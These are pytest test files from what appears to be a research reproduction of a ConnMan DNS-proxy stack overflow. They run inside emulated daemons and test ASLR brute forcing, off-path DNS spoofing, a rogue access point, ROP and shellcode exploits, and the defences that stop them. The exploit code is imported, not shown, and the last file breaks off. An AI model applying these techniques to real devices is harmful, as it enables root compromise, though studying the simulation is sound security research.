        assert not pineapple.broadcasts

    def test_client_dns_reaches_payload_server(self):
        radio = RadioEnvironment()
        server = fixed_blob_server(b"\x03abc\x00")
        pineapple = WifiPineapple(server)
        pineapple.impersonate("Lure", radio)
        station = WirelessStation(Host("victim"), known_ssids=["Lure"])
        station.auto_join(radio)
        from repro.dns import make_query

        reply = station.host.dns_transport()(make_query(1, "x.example").encode())
        assert reply is not None
        assert server.served == ["x.example"]

    def test_swap_payload(self):
        radio = RadioEnvironment()
        pineapple = WifiPineapple(fixed_blob_server(b"\x01a\x00"))
        replacement = fixed_blob_server(b"\x01b\x00")
        pineapple.serve_payload(replacement)
        pineapple.impersonate("Lure", radio)
        station = WirelessStation(Host("victim"), known_ssids=["Lure"])
        station.auto_join(radio)
        from repro.dns import make_query

        station.host.dns_transport()(make_query(1, "y.example").encode())
        assert replacement.served == ["y.example"]
        assert pineapple.captured_queries == ["y.example"]
