"""Household fleet construction and the E12 experiment."""

from repro.core import e12_fleet
from repro.firmware.fleet import DEFAULT_HOUSEHOLD, build_household


class TestHousehold:
    def test_default_household_size(self):
        assert len(DEFAULT_HOUSEHOLD) == 6

    def test_blueprint_covers_survey_firmware(self):
        firmware = {member.firmware.name for member in DEFAULT_HOUSEHOLD}
        assert {"tizen-3", "openelec-8", "yocto-pyro", "tizen-4"} <= firmware

    def test_exactly_one_patched_member(self):
        patched = [m for m in DEFAULT_HOUSEHOLD if not m.firmware.ships_vulnerable_connman]
        assert len(patched) == 1

    def test_build_household_wires_ssid(self):
        devices = build_household("CasaDelSol")
        assert len(devices) == len(DEFAULT_HOUSEHOLD)
        for device in devices:
            assert device.station.known_ssids == ["CasaDelSol"]

    def test_unique_names(self):
        names = [member.name for member in DEFAULT_HOUSEHOLD]
        assert len(set(names)) == len(names)


class TestE12:
    def test_experiment_all_ok(self):
        result = e12_fleet()
        assert result.all_pass
        assert len(result.rows) == 6

    def test_every_vulnerable_device_rooted(self):
        result = e12_fleet()
        rooted = [row for row in result.rows if row[5] == "ROOT SHELL"]
        assert len(rooted) == 5

    def test_patched_device_survives(self):
        result = e12_fleet()
        patched_rows = [row for row in result.rows if row[2] == "1.35"]
        assert len(patched_rows) == 1
        assert patched_rows[0][5] != "ROOT SHELL"
        assert patched_rows[0][4]  # it still roamed to the rogue AP

    def test_notes_summarize(self):
        assert "5/6 devices rooted" in e12_fleet().notes
