"""Differential testing: the victim's get_name vs. the host reference model.

``simulate_expansion`` (used by the planner and the payload tests) and the
emulated-daemon ``_get_name`` (the actual vulnerable routine) are
independent implementations of Listing 1.  For any label stream they must
produce byte-identical buffer images — this is the oracle that keeps the
whole exploit pipeline honest.
"""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.connman import EventKind
from repro.dns import build_raw_response, make_query
from repro.exploit import simulate_expansion
from tests.conftest import fresh_daemon


def guest_expansion(blob: bytes, arch: str = "x86") -> bytes:
    """Run the real (emulated-memory) parser and read the buffer back.

    Uses a benign-sized stream so the daemon survives and the full image
    is still in place.
    """
    daemon = fresh_daemon(arch, seed=1234)
    place = daemon.proxy.placement()
    query = make_query(0x77, "diff.example")
    reply = build_raw_response(query, blob)
    event = daemon.handle_upstream_reply(reply, expected_id=0x77)
    assert event.kind == EventKind.RESPONDED, event.describe()
    expected_length = len(simulate_expansion(blob))
    return bytes(daemon.loaded.process.memory.read(place.name_address, expected_length))


LABEL = st.integers(min_value=1, max_value=63).flatmap(
    lambda n: st.binary(min_size=n, max_size=n)
)


@settings(max_examples=80, deadline=None)
@given(labels=st.lists(LABEL, min_size=1, max_size=12))
def test_property_guest_matches_reference(labels):
    """Both implementations of the vulnerable copy agree byte for byte."""
    blob = b"".join(bytes([len(label)]) + label for label in labels) + b"\x00"
    reference = simulate_expansion(blob)
    if len(reference) + 1 > 1000:  # stay inside the buffer: benign case
        return
    assert guest_expansion(blob) == reference


@settings(max_examples=30, deadline=None)
@given(labels=st.lists(LABEL, min_size=1, max_size=8),
       arch=st.sampled_from(["x86", "arm"]))
def test_property_agreement_on_both_arches(labels, arch):
    blob = b"".join(bytes([len(label)]) + label for label in labels) + b"\x00"
    reference = simulate_expansion(blob)
    if len(reference) + 1 > 1000:
        return
    assert guest_expansion(blob, arch) == reference


def test_overcopy_byte_is_transient():
    """Listing 1 copies label_len+1 bytes; the trailing byte is overwritten
    by the next label's length byte, so the net image matches the clean
    interleave — verify explicitly on a crafted two-label stream."""
    blob = b"\x02ab\x03cde\x00"
    assert guest_expansion(blob) == b"\x02ab\x03cde"


def test_compression_pointer_expansion_matches_inline():
    """A pointered name and its flat equivalent write the same image."""
    daemon = fresh_daemon("x86", seed=77)
    place = daemon.proxy.placement()
    query = make_query(0x99, "ptr.example")
    # Packet layout: header(12) + question + answer-name with a pointer
    # back into the question's name bytes.
    from repro.dns import encode_pointer

    question_name_offset = 12
    blob = b"\x03abc" + encode_pointer(question_name_offset)
    reply = build_raw_response(query, blob)
    event = daemon.handle_upstream_reply(reply, expected_id=0x99)
    assert event.kind == EventKind.RESPONDED
    # The question name is "ptr.example": expansion = "abc" + that name.
    image = daemon.loaded.process.memory.read(place.name_address, 17)
    assert image == b"\x03abc\x03ptr\x07example\x00"[:17]
