"""Shared fixtures.

Expensive artifacts (built binaries, booted daemons used read-only,
attacker knowledge) are session-scoped; anything a test mutates is built
fresh inside the test.
"""

from __future__ import annotations

import random

import pytest

from repro.binfmt import build_connman, build_libc, load_process
from repro.connman import ConnmanDaemon
from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import NONE, WX, WX_ASLR
from repro.mem import AddressSpace, Perm, layout_for


@pytest.fixture(scope="session")
def x86_binary():
    return build_connman("x86")


@pytest.fixture(scope="session")
def arm_binary():
    return build_connman("arm")


@pytest.fixture(scope="session")
def x86_libc():
    return build_libc("x86")


@pytest.fixture(scope="session")
def arm_libc():
    return build_libc("arm")


@pytest.fixture(scope="session")
def knowledge_x86_plain():
    return attacker_knowledge(AttackScenario("x86", "none", NONE))


@pytest.fixture(scope="session")
def knowledge_arm_plain():
    return attacker_knowledge(AttackScenario("arm", "none", NONE))


@pytest.fixture(scope="session")
def knowledge_x86_wx():
    return attacker_knowledge(AttackScenario("x86", "W^X", WX))


@pytest.fixture(scope="session")
def knowledge_arm_wx():
    return attacker_knowledge(AttackScenario("arm", "W^X", WX))


@pytest.fixture(scope="session")
def knowledge_x86_blind():
    return attacker_knowledge(AttackScenario("x86", "W^X+ASLR", WX_ASLR))


@pytest.fixture(scope="session")
def knowledge_arm_blind():
    return attacker_knowledge(AttackScenario("arm", "W^X+ASLR", WX_ASLR))


def fresh_daemon(arch="x86", version="1.34", profile=NONE, seed=0xC0FFEE):
    return ConnmanDaemon(arch=arch, version=version, profile=profile,
                         rng=random.Random(seed))


@pytest.fixture
def scratch_space():
    """A tiny RWX code + RW stack address space for raw emulator tests."""
    space = AddressSpace()
    space.map_new("code", 0x1000, 0x1000, Perm.RWX)
    space.map_new("data", 0x4000, 0x1000, Perm.RW)
    space.map_new("stack", 0x20000, 0x10000, Perm.RW | Perm.X)
    return space


def loaded_pair(arch, *, wx=False, aslr=False, seed=7):
    """Load a connman process directly (bypassing the daemon wrapper)."""
    binary = build_connman(arch)
    libc = build_libc(arch)
    layout = layout_for(arch, aslr=aslr, rng=random.Random(seed))
    return load_process(binary, libc, layout, wx_enabled=wx)
