"""Final grab-bag: ISA corner semantics, DNS details, net behaviors."""

import pytest

from repro.cpu import IllegalInstruction, Process, make_emulator
from repro.cpu.arm import asm as arm
from repro.cpu.x86 import asm as x86
from repro.mem import AddressSpace, Perm

from tests.test_cpu_arm import run_code as run_arm
from tests.test_cpu_x86 import run_code as run_x86


class TestArmCorners:
    def test_push_with_pc_stores_plus_eight(self, scratch_space):
        code = arm.push(["pc"]) + b"\xff\xff\xff\xff"
        process, _ = run_arm(scratch_space, code)
        stored = process.memory.read_u32(process.sp)
        assert stored == 0x1000 + 8

    def test_mov_pc_branches(self, scratch_space):
        scratch_space.write(0x1100, b"\xff\xff\xff\xff", check=False)
        code = arm.mov_imm("r1", 0x1100) + arm.mov_reg("pc", "r1")
        process, result = run_arm(scratch_space, code)
        assert process.pc == 0x1100
        assert result.crashed

    def test_ldr_pc_branches(self, scratch_space):
        scratch_space.write(0x1100, b"\xff\xff\xff\xff", check=False)

        def setup(process):
            process.memory.write_u32(process.sp - 8, 0x1100)

        code = arm.ldr("pc", "sp", -8)
        process, _ = run_arm(scratch_space, code, setup=setup)
        assert process.pc == 0x1100

    def test_add_with_pc_destination(self, scratch_space):
        scratch_space.write(0x1200, b"\xff\xff\xff\xff", check=False)
        # pc = r2 + 0x100 where r2 = 0x1100.
        code = arm.mov_imm("r2", 0x1100) + arm.add_imm("pc", "r2", 0x100)
        process, _ = run_arm(scratch_space, code)
        assert process.pc == 0x1200

    def test_bx_clears_thumb_bit(self, scratch_space):
        scratch_space.write(0x1100, b"\xff\xff\xff\xff", check=False)

        def setup(process):
            process.registers["r14"] = 0x1101  # thumb-bit set

        process, _ = run_arm(scratch_space, arm.bx("lr"), setup=setup)
        assert process.pc == 0x1100

    def test_cmp_sets_flags_not_registers(self, scratch_space):
        code = (
            arm.mov_imm("r0", 5)
            + arm.cmp_imm("r0", 5)
            + b"\xff\xff\xff\xff"
        )
        process, _ = run_arm(scratch_space, code)
        assert process.registers["r0"] == 5
        assert process.registers["cpsr"] & (1 << 30)  # Z set


class TestX86Corners:
    def test_cmp_eax_imm32(self, scratch_space):
        code = (
            x86.mov_reg_imm32("eax", 7)
            + b"\x3d\x07\x00\x00\x00"      # cmp eax, 7
            + x86.jz_rel8(0x100A, 0x1010)
        )
        code += b"\x90" * (0x10 - len(code))
        code += x86.mov_reg_imm32("ebx", 0x77) + x86.hlt()
        process, _ = run_x86(scratch_space, code)
        assert process.registers["ebx"] == 0x77

    def test_retn_semantics_end_to_end(self, scratch_space):
        # caller pushes arg then calls; callee returns with ret 4.
        scratch_space.write(0x1100, x86.ret_imm16(4), check=False)
        code = (
            x86.push_imm32(0xAB)
            + x86.call_rel32(0x1005, 0x1100)
            + x86.hlt()
        )
        process, result = run_x86(scratch_space, code)
        assert result.crashed  # at hlt, post-return
        assert process.sp == 0x2F000  # arg cleaned by the callee

    def test_esp_relative_push_pop_symmetry(self, scratch_space):
        code = (
            x86.mov_reg_reg("eax", "esp")
            + x86.push_reg("eax")
            + x86.pop_reg("ecx")
            + x86.hlt()
        )
        process, _ = run_x86(scratch_space, code)
        assert process.registers["ecx"] == 0x2F000

    def test_nop_is_not_xchg_semantically(self, scratch_space):
        # 0x90: eax unchanged (trivially true, but pins the decode split).
        code = x86.mov_reg_imm32("eax", 3) + b"\x90" + x86.hlt()
        process, _ = run_x86(scratch_space, code)
        assert process.registers["eax"] == 3


class TestDnsDetails:
    def test_question_class_preserved(self):
        from repro.dns import Message, Question, RecordClass, RecordType

        question = Question("x.example", RecordType.A, RecordClass.ANY)
        message = Message(id=1, questions=(question,))
        assert Message.decode(message.encode()).questions[0].qclass == RecordClass.ANY

    def test_additionals_roundtrip(self):
        from repro.dns import Flags, Message, ResourceRecord

        message = Message(
            id=2,
            flags=Flags(qr=True),
            additionals=(ResourceRecord.a("ns.example", "9.9.9.9"),),
        )
        decoded = Message.decode(message.encode())
        assert decoded.additionals[0].address == "9.9.9.9"

    def test_txt_record_roundtrip(self):
        from repro.dns import Message, Flags, ResourceRecord

        txt = ResourceRecord.txt("t.example", b"hello world")
        message = Message(id=3, flags=Flags(qr=True), answers=(txt,))
        decoded = Message.decode(message.encode())
        assert decoded.answers[0].rdata == b"\x0bhello world"


class TestNetDetails:
    def test_reply_leg_src_is_service(self):
        from repro.dns import SimpleDnsServer, make_query
        from repro.net import DNS_PORT, Host, Network

        network = Network("t", subnet_prefix="10.5.5")
        server = Host("srv")
        network.attach(server, ip="10.5.5.1")
        dns = SimpleDnsServer(default_address="1.1.1.1")
        server.bind_udp(DNS_PORT, lambda p, _d: dns.handle_query(p))
        client = Host("cli")
        network.attach(client)
        client.send_udp("10.5.5.1", DNS_PORT, make_query(1, "x.example").encode())
        reply_leg = network.traffic[-1]
        assert reply_leg.src_ip == "10.5.5.1" and reply_leg.src_port == DNS_PORT
        assert reply_leg.dst_ip == client.ip

    def test_unanswered_send_logs_single_leg(self):
        from repro.net import Host, Network

        network = Network("t2", subnet_prefix="10.6.6")
        client = Host("cli")
        network.attach(client)
        client.send_udp("10.6.6.99", 1234, b"ping")
        assert len(network.traffic) == 1
