"""ASLR brute force and off-path spoofing."""

import random

import pytest

from repro.connman import ConnmanDaemon, EventKind
from repro.defenses import WX_ASLR, ProtectionProfile
from repro.dns import SimpleDnsServer
from repro.core import AttackScenario, attacker_knowledge
from repro.exploit import (
    AslrBruteForcer,
    OffPathSpoofer,
    builder_for,
)


def arm_rop_exploit():
    knowledge = attacker_knowledge(AttackScenario("arm", "W^X+ASLR", WX_ASLR))
    return builder_for("arm", WX_ASLR).build(knowledge)


class TestBruteForce:
    def test_succeeds_against_plain_aslr(self):
        victim = ConnmanDaemon(arch="x86", profile=WX_ASLR, rng=random.Random(99))
        result = AslrBruteForcer(victim, rng=random.Random(5)).run()
        assert result.succeeded
        assert result.winning_slide_pages is not None
        assert victim.compromised

    def test_attempt_count_reflects_entropy(self):
        victim = ConnmanDaemon(arch="x86", profile=WX_ASLR, rng=random.Random(99))
        result = AslrBruteForcer(victim, rng=random.Random(5)).run()
        # Geometric with p = 1/256: overwhelmingly within [1, 2048].
        assert 1 <= result.attempts <= 2048

    def test_every_failed_attempt_respawns(self):
        victim = ConnmanDaemon(arch="x86", profile=WX_ASLR, rng=random.Random(99))
        result = AslrBruteForcer(victim, rng=random.Random(5)).run()
        assert result.daemon_boots == result.attempts  # last one succeeded

    def test_ret_guard_stops_brute_force(self):
        guarded = ConnmanDaemon(
            arch="x86",
            profile=ProtectionProfile(wx=True, aslr=True, ret_guard=True),
            rng=random.Random(7),
        )
        result = AslrBruteForcer(guarded, max_attempts=128, rng=random.Random(5)).run()
        assert not result.succeeded
        assert not guarded.compromised

    def test_canary_stops_brute_force(self):
        guarded = ConnmanDaemon(
            arch="x86",
            profile=ProtectionProfile(wx=True, aslr=True, canary=True),
            rng=random.Random(7),
        )
        result = AslrBruteForcer(guarded, max_attempts=128, rng=random.Random(5)).run()
        assert not result.succeeded
        # Every attempt died at the canary, visibly.
        assert set(result.outcomes) == {"crashed"}

    def test_arm_victim_rejected(self):
        with pytest.raises(ValueError):
            AslrBruteForcer(ConnmanDaemon(arch="arm", profile=WX_ASLR))

    def test_guessed_knowledge_shifts_libc_only(self):
        victim = ConnmanDaemon(arch="x86", profile=WX_ASLR)
        forcer = AslrBruteForcer(victim)
        zero = forcer.knowledge_for_slide(0)
        shifted = forcer.knowledge_for_slide(3)
        assert shifted.libc["system"] == zero.libc["system"] - 3 * 0x1000
        assert shifted.plt == zero.plt


class TestOffPath:
    def test_large_burst_eventually_wins(self):
        victim = ConnmanDaemon(arch="arm", profile=WX_ASLR, rng=random.Random(3))
        spoofer = OffPathSpoofer(arm_rop_exploit(), burst=2048, rng=random.Random(11))
        legit = SimpleDnsServer(default_address="1.1.1.1")
        result = spoofer.attack(victim, legit.handle_query, max_queries=512)
        assert result.succeeded
        assert victim.compromised

    def test_tiny_burst_loses_race(self):
        victim = ConnmanDaemon(arch="arm", profile=WX_ASLR, rng=random.Random(4))
        spoofer = OffPathSpoofer(arm_rop_exploit(), burst=2, rng=random.Random(12))
        legit = SimpleDnsServer(default_address="1.1.1.1")
        result = spoofer.attack(victim, legit.handle_query, max_queries=32)
        assert not result.succeeded
        assert result.queries_observed == 32
        assert victim.alive  # legitimate replies kept winning

    def test_spoof_accounting(self):
        victim = ConnmanDaemon(arch="arm", profile=WX_ASLR, rng=random.Random(4))
        spoofer = OffPathSpoofer(arm_rop_exploit(), burst=16, rng=random.Random(12))
        legit = SimpleDnsServer(default_address="1.1.1.1")
        result = spoofer.attack(victim, legit.handle_query, max_queries=10)
        assert result.spoofs_sent == 16 * 10

    def test_losing_race_still_resolves(self):
        """When the spoof misses, the victim gets the legitimate answer."""
        victim = ConnmanDaemon(arch="arm", profile=WX_ASLR, rng=random.Random(4))
        spoofer = OffPathSpoofer(arm_rop_exploit(), burst=1, rng=random.Random(12))
        legit = SimpleDnsServer(default_address="9.9.9.9")
        transport = spoofer.race_transport(legit.handle_query)
        from repro.dns import make_query

        response = victim.handle_client_query(make_query(77, "ok.example").encode(), transport)
        assert response is not None
        assert victim.last_event.kind == EventKind.RESPONDED
