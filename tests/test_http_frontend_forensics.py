"""HTTP frontend responses and overflow forensics."""

from repro.connman import EventKind
from repro.core import AttackScenario, attacker_knowledge, naive_overflow_blob
from repro.defenses import NONE, WX
from repro.dns import build_raw_response, make_query
from repro.exploit import Debugger, builder_for
from repro.othercves import (
    ROUTER_HTTPD,
    AdaptedService,
    adapt_exploit,
    make_http_request,
)
from repro.othercves.victims import http_respond
from tests.conftest import fresh_daemon


class TestHttpFrontend:
    def test_benign_upgrade_gets_200(self):
        service = AdaptedService(ROUTER_HTTPD)
        response, event = http_respond(service, make_http_request(b"ok-payload"))
        assert response.startswith(b"HTTP/1.1 200")
        assert event.kind == EventKind.RESPONDED

    def test_malformed_gets_400(self):
        service = AdaptedService(ROUTER_HTTPD)
        response, event = http_respond(service, b"GET / HTTP/1.1\r\n\r\n")
        assert response.startswith(b"HTTP/1.1 400")

    def test_crash_gets_connection_reset(self):
        service = AdaptedService(ROUTER_HTTPD)
        body = b"A" * (ROUTER_HTTPD.frame.ret_offset + 16)
        response, event = http_respond(service, make_http_request(body))
        assert response is None
        assert event.kind == EventKind.CRASHED

    def test_down_service_gets_503(self):
        service = AdaptedService(ROUTER_HTTPD)
        http_respond(service, make_http_request(b"A" * (ROUTER_HTTPD.frame.ret_offset + 16)))
        response, _event = http_respond(service, make_http_request(b"hello"))
        assert response.startswith(b"HTTP/1.1 503")

    def test_exploit_then_no_response(self):
        service = AdaptedService(ROUTER_HTTPD, profile=WX)
        exploit = adapt_exploit(builder_for("arm", WX), service, aslr_blind=False)
        response, event = http_respond(service, make_http_request(exploit.payload.image))
        assert response is None
        assert event.kind == EventKind.COMPROMISED


class TestOverflowForensics:
    def test_diff_shows_exact_overflow_extent(self):
        daemon = fresh_daemon("x86")
        debugger = Debugger(daemon)
        place = daemon.proxy.placement()
        region_length = daemon.frame.ret_offset + 64
        # Take the baseline after a benign frame setup so only the overflow
        # itself shows up in the diff.
        from repro.dns import ResourceRecord, make_response

        benign = make_response(
            make_query(1, "baseline.example"),
            (ResourceRecord.a("baseline.example", "1.1.1.1"),),
        )
        daemon.handle_upstream_reply(benign.encode(), expected_id=1)
        baseline = debugger.snapshot(place.name_address, region_length)

        reply = build_raw_response(make_query(2, "boom.example"), naive_overflow_blob())
        daemon.handle_upstream_reply(reply, expected_id=2)
        changes = debugger.diff_snapshot(place.name_address, baseline)
        changed_offsets = {offset for offset, _old, _new in changes}
        # The return slot was among the rewritten bytes...
        assert daemon.frame.ret_offset in changed_offsets
        # ...and the new bytes there are the attacker's 'A's.
        ret_change = next(c for c in changes if c[0] == daemon.frame.ret_offset)
        assert ret_change[2] == ord("A")

    def test_benign_parse_changes_only_buffer_region(self):
        daemon = fresh_daemon("arm")
        debugger = Debugger(daemon)
        place = daemon.proxy.placement()
        from repro.dns import ResourceRecord, make_response

        first = make_response(
            make_query(1, "a.example"), (ResourceRecord.a("a.example", "1.1.1.1"),)
        )
        daemon.handle_upstream_reply(first.encode(), expected_id=1)
        baseline = debugger.snapshot(place.name_address, daemon.frame.ret_offset + 4)
        second = make_response(
            make_query(2, "bb.example"), (ResourceRecord.a("bb.example", "2.2.2.2"),)
        )
        daemon.handle_upstream_reply(second.encode(), expected_id=2)
        changes = debugger.diff_snapshot(place.name_address, baseline)
        # All rewrites stay inside the 1024-byte name buffer.
        assert all(offset < 1024 for offset, _old, _new in changes)
