"""x86 assembler/decoder round-trips and emulator semantics."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu import IllegalInstruction, Process, make_emulator
from repro.cpu.x86 import asm
from repro.cpu.x86.disasm import decode, linear_sweep
from repro.mem import AddressSpace, Perm

REGS = ["eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi"]


def run_code(scratch_space, code, *, sp=0x2F000, max_steps=1000, setup=None):
    scratch_space.write(0x1000, code, check=False)
    process = Process("x86", scratch_space)
    process.pc = 0x1000
    process.sp = sp
    if setup:
        setup(process)
    result = make_emulator(process).run(max_steps)
    return process, result


class TestAssemblerDecoder:
    def test_nop_roundtrip(self):
        insn = decode(asm.nop(), 0x1000)
        assert insn.mnemonic == "nop" and insn.size == 1

    def test_push_pop_all_registers(self):
        for reg in REGS:
            assert decode(asm.push_reg(reg), 0).operands == (reg,)
            assert decode(asm.pop_reg(reg), 0).operands == (reg,)

    def test_mov_imm32(self):
        insn = decode(asm.mov_reg_imm32("esi", 0xCAFEBABE), 0)
        assert insn.mnemonic == "mov" and insn.operands == ("esi", 0xCAFEBABE)

    def test_mov_reg_reg_direction(self):
        # 89 E3 is the classic `mov ebx, esp` from the shellcode.
        insn = decode(asm.mov_reg_reg("ebx", "esp"), 0)
        assert insn.raw == b"\x89\xe3"
        assert insn.operands == ("ebx", "esp")

    def test_mov8_al(self):
        insn = decode(asm.mov_reg8_imm8("al", 11), 0)
        assert insn.mnemonic == "mov8" and insn.operands == ("al", 11)

    def test_xor_self(self):
        insn = decode(asm.xor_reg_reg("eax", "eax"), 0)
        assert insn.raw == b"\x31\xc0"

    def test_add_esp_imm8(self):
        insn = decode(asm.add_reg_imm8("esp", 0x0C), 0)
        assert insn.mnemonic == "add" and insn.operands == ("esp", 0x0C)

    def test_sub_imm8_sign_extends(self):
        insn = decode(asm.sub_reg_imm8("esp", 0x80), 0)
        assert insn.operands[1] == 0xFFFFFF80

    def test_ret_forms(self):
        assert decode(asm.ret(), 0).mnemonic == "ret"
        insn = decode(asm.ret_imm16(8), 0)
        assert insn.mnemonic == "retn" and insn.operands == (8,)

    def test_call_rel32_target(self):
        insn = decode(asm.call_rel32(0x1000, 0x2000), 0x1000)
        assert insn.mnemonic == "call" and insn.operands == (0x2000,)

    def test_backward_jump(self):
        insn = decode(asm.jmp_rel32(0x2000, 0x1000), 0x2000)
        assert insn.operands == (0x1000,)

    def test_jmp_rel8_range_check(self):
        with pytest.raises(ValueError):
            asm.jmp_rel8(0x1000, 0x2000)

    def test_bcd_nops_decode(self):
        for byte, name in ((0x27, "daa"), (0x2F, "das"), (0x37, "aaa"), (0x3F, "aas")):
            assert decode(bytes([byte]), 0).mnemonic == name

    def test_unknown_opcode_strict_raises(self):
        with pytest.raises(IllegalInstruction):
            decode(b"\x0f\x05", 0)

    def test_unknown_opcode_tolerant_is_bad(self):
        insn = decode(b"\x0f\x05", 0, strict=False)
        assert insn.is_bad and insn.size == 1

    def test_displacement_modrm_rejected(self):
        # mod=1 (disp8 memory operand) is outside the subset.
        with pytest.raises(IllegalInstruction):
            decode(b"\x89\x43\x04", 0)

    def test_register_indirect_mov_supported(self):
        store = decode(b"\x89\x03", 0)  # mov [ebx], eax
        assert store.mnemonic == "store" and store.operands == ("ebx", "eax")
        load = decode(b"\x8b\x01", 0)  # mov eax, [ecx]
        assert load.mnemonic == "load" and load.operands == ("eax", "ecx")

    def test_truncated_imm32_tolerant(self):
        assert decode(b"\x68\x01\x02", 0, strict=False).is_bad

    def test_linear_sweep_covers_all_bytes(self):
        code = asm.nop() + b"\x0f" + asm.ret()
        insns = list(linear_sweep(code, 0x1000))
        assert [i.mnemonic for i in insns] == ["nop", "(bad)", "ret"]
        assert sum(i.size for i in insns) == len(code)


ROUNDTRIP_BUILDERS = [
    lambda reg, imm: asm.push_reg(reg),
    lambda reg, imm: asm.pop_reg(reg),
    lambda reg, imm: asm.mov_reg_imm32(reg, imm),
    lambda reg, imm: asm.inc_reg(reg),
    lambda reg, imm: asm.dec_reg(reg),
    lambda reg, imm: asm.xor_reg_reg(reg, "ecx"),
    lambda reg, imm: asm.add_reg_reg(reg, "edx"),
    lambda reg, imm: asm.sub_reg_reg(reg, "esi"),
    lambda reg, imm: asm.cmp_reg_reg(reg, "edi"),
    lambda reg, imm: asm.test_reg_reg(reg, reg),
    lambda reg, imm: asm.push_imm32(imm),
]


@settings(max_examples=100)
@given(
    builder=st.sampled_from(ROUNDTRIP_BUILDERS),
    reg=st.sampled_from(REGS),
    imm=st.integers(min_value=0, max_value=0xFFFFFFFF),
)
def test_property_asm_disasm_roundtrip(builder, reg, imm):
    """Every emitted instruction decodes to exactly its own bytes."""
    code = builder(reg, imm)
    insn = decode(code, 0x1234)
    assert insn.size == len(code)
    assert insn.raw == code
    assert not insn.is_bad


class TestEmulator:
    def test_mov_and_arithmetic(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 10)
            + asm.mov_reg_imm32("ecx", 32)
            + asm.add_reg_reg("eax", "ecx")
            + asm.sub_reg_imm8("eax", 2)
            + asm.hlt()
        )
        process, result = run_code(scratch_space, code)
        assert process.registers["eax"] == 40
        assert result.reason == "fault"  # hlt is privileged

    def test_push_pop_transfers_values(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 0x1111)
            + asm.push_reg("eax")
            + asm.pop_reg("ebx")
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["ebx"] == 0x1111

    def test_stack_pointer_motion(self, scratch_space):
        code = asm.push_imm32(5) + asm.push_imm32(6) + asm.hlt()
        process, _ = run_code(scratch_space, code)
        assert process.sp == 0x2F000 - 8
        assert process.memory.read_u32(process.sp) == 6

    def test_call_pushes_return_address(self, scratch_space):
        # call to 0x1100 which immediately returns; then hlt.
        code = asm.call_rel32(0x1000, 0x1100) + asm.hlt()
        scratch_space.write(0x1100, asm.ret(), check=False)
        process, result = run_code(scratch_space, code)
        assert result.reason == "fault"  # ended at hlt after returning
        assert process.pc == 0x1005

    def test_ret_pops_into_eip(self, scratch_space):
        code = asm.push_imm32(0x1100) + asm.ret()
        scratch_space.write(0x1100, asm.hlt(), check=False)
        process, _ = run_code(scratch_space, code)
        assert process.pc == 0x1100

    def test_retn_clears_arguments(self, scratch_space):
        def setup(process):
            process.push_u32(0xAAAA)      # argument to be cleared
            process.push_u32(0x1100)      # return target
        scratch_space.write(0x1100, asm.hlt(), check=False)
        process, _ = run_code(scratch_space, asm.ret_imm16(4), setup=setup)
        assert process.pc == 0x1100
        assert process.sp == 0x2F000

    def test_leave_restores_frame(self, scratch_space):
        def setup(process):
            process.push_u32(0xBEEF)               # saved ebp value on stack
            process.registers["ebp"] = process.sp  # ebp -> saved slot
            process.sp -= 16                       # locals
        process, _ = run_code(scratch_space, asm.leave() + asm.hlt(), setup=setup)
        assert process.registers["ebp"] == 0xBEEF

    def test_cdq_sign_extends(self, scratch_space):
        code = asm.mov_reg_imm32("eax", 0x80000000) + asm.cdq() + asm.hlt()
        process, _ = run_code(scratch_space, code)
        assert process.registers["edx"] == 0xFFFFFFFF

    def test_mov8_sets_only_low_byte(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 0x11223344)
            + asm.mov_reg8_imm8("al", 0xFF)
            + asm.mov_reg8_imm8("ah", 0x00)
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["eax"] == 0x112200FF

    def test_conditional_jump_taken(self, scratch_space):
        code = (
            asm.xor_reg_reg("eax", "eax")       # ZF=1
            + asm.jz_rel8(0x1004, 0x1010)
        )
        code += b"\x90" * (0x10 - len(code))
        code += asm.mov_reg_imm32("ebx", 1) + asm.hlt()
        process, _ = run_code(scratch_space, code)
        assert process.registers["ebx"] == 1

    def test_conditional_jump_not_taken(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 5)
            + asm.test_reg_reg("eax", "eax")     # ZF=0
            + asm.jz_rel8(0x1007, 0x1040)
            + asm.mov_reg_imm32("ebx", 2)
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["ebx"] == 2

    def test_int3_faults_with_sigill_class(self, scratch_space):
        process, result = run_code(scratch_space, asm.int3())
        assert result.crashed
        assert isinstance(result.fault, IllegalInstruction)

    def test_budget_exhaustion_reports(self, scratch_space):
        code = asm.jmp_rel8(0x1000, 0x1000)  # tight infinite loop
        _, result = run_code(scratch_space, code, max_steps=50)
        assert result.crashed and result.signal == "SIGKILL"

    def test_execution_off_map_faults(self, scratch_space):
        code = asm.push_imm32(0xDEAD0000) + asm.ret()
        _, result = run_code(scratch_space, code)
        assert result.crashed and result.signal == "SIGSEGV"

    def test_shellcode_spawns_root_shell(self, scratch_space):
        from repro.exploit import x86_execve_binsh

        process, result = run_code(scratch_space, x86_execve_binsh())
        assert result.spawned
        assert process.spawned_root_shell
        assert process.spawns[0].argv == ("/bin//sh",)
