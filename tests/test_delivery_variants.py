"""Delivery variants: AAAA-typed answers and the stack guard page."""

import pytest

from repro.connman import EventKind
from repro.cpu.x86 import asm as x86
from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import NONE, WX_ASLR
from repro.dns import RecordType
from repro.exploit import X86CodeInjection, X86RopMemcpyExeclp, deliver
from repro.mem import AccessViolation
from tests.conftest import fresh_daemon


class TestAaaaDelivery:
    """§II: 'a crafted DNS response ... of type A, which is a 32-bit IPv4
    lookup response, or type AAAA, a 128-bit IPv6 lookup response'."""

    def test_rop_works_over_aaaa(self, knowledge_x86_blind):
        exploit = X86RopMemcpyExeclp().build(knowledge_x86_blind)
        victim = fresh_daemon("x86", profile=WX_ASLR)
        report = deliver(exploit, victim, rtype=RecordType.AAAA)
        assert report.got_root_shell

    def test_code_injection_works_over_aaaa(self, knowledge_arm_plain):
        from repro.exploit import ArmCodeInjection

